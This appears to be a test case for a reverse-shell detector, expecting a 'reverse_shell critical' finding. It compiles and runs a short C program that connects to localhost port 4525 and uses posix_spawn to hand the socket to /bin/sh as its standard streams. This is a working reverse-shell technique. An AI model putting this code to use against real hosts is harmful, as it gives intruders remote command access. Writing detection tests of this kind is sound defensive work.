# about: posix_spawn puts the connection onto the streams of the child
# expect: reverse_shell critical
# needs: python3 gcc
proven 4525
cat >a.c <<'C'
#define _GNU_SOURCE
#include <netinet/in.h>
#include <spawn.h>
#include <unistd.h>
#include <sys/wait.h>
int main(){int s=socket(AF_INET,SOCK_STREAM|SOCK_CLOEXEC,0);struct sockaddr_in a={AF_INET,htons(4525)};a.sin_addr.s_addr=htonl(0x7f000001);if(connect(s,(void*)&a,sizeof a))return 1;
 posix_spawn_file_actions_t f;posix_spawn_file_actions_init(&f);for(int i=0;i<3;i++)posix_spawn_file_actions_adddup2(&f,s,i);
 char*v[]={"sh",0};pid_t p;posix_spawn(&p,"/bin/sh",&f,0,v,environ);close(s);waitpid(p,0,0);}
C
gcc -w -o a a.c
timeout 6 ./a
answered
